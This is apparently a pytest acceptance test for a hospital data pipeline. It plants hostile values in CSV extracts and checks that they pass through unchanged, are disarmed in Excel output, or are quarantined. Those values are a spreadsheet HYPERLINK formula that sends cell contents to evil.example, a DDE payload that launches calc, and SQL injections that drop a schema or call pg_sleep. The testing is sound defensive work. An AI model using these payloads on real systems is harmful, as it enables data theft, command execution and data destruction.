"""Hostile values all the way: through a whole refresh into the published marts."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.acceptance.hostile.texts import drawn
from tests.conftest import Home, remove_home, simulated

DEPARTMENT = '=HYPERLINK("http://evil.example/?"&A1;"open")'
DOCTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
TREATMENT = "-2+3'; drop schema marts cascade; --"
WIDE = drawn(1) + drawn(2)


def change(file: Path, column: str, value: str, row: int = 0) -> None:
    """Put a value into one row of an extract."""
    with file.open(newline="") as read:
        rows = list(csv.DictReader(read))
    rows[row][column] = value
    with file.open("w", newline="") as written:
        writer = csv.DictWriter(written, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def published() -> Iterator[Home]:
    """A small hospital with hostile values, refreshed and published."""
    home = Home()
    folder = simulated(home).folder
    change(folder / "departments.csv", "department_name", DEPARTMENT)
    change(folder / "doctors.csv", "doctor_name", DOCTOR)
    change(folder / "treatments.csv", "treatment_type", TREATMENT)
    change(folder / "branches.csv", "time_zone", "'; select pg_sleep(9); --")
    # Each would burst an index of the published marts.
    change(folder / "treatments.csv", "treatment_type", WIDE, row=1)
    change(folder / "bills.csv", "payer", WIDE, row=1)
    change(folder / "beds.csv", "bed_type", WIDE, row=1)
    change(folder / "doctors.csv", "doctor_id", WIDE, row=1)
    home.refresh()
    yield home
    remove_home(home.path)


@pytest.mark.parametrize(
    ("sql", "text"),
    [
        ("select department_name from marts.dim_department", DEPARTMENT),
        ("select doctor_name from marts.dim_doctor", DOCTOR),
        ("select treatment_type from marts.fct_treatments", TREATMENT),
    ],
)
def test_a_text_reaches_the_marts_unchanged_and_a_spreadsheet_unarmed(
    published: Home, sql: str, text: str
) -> None:
    for output, expected in (("csv", text), ("excel", f"'{text}")):
        printed = published.run("query", sql, "--format", output).stdout
        assert [expected] in list(csv.reader(io.StringIO(printed)))


def test_texts_too_long_for_a_mart_are_in_quarantine(published: Home) -> None:
    held = published.rows(
        "select distinct table_name, column_name, reason"
        " from quarantine.quarantined_rows where reason like 'is longer%'",
        None,
    )
    long = "is longer than 500 bytes"
    assert set(held) == {
        ("beds", "bed_type", long),
        ("bills", "payer", long),
        ("doctors", "doctor_id", long),
        ("treatments", "treatment_type", long),
    }


def test_a_time_zone_that_is_none_is_reported(published: Home) -> None:
    assert published.rows(
        "select distinct issue from marts.fct_quality_issues where entity = 'branches'"
    ) == [("unknown_time_zone",)]
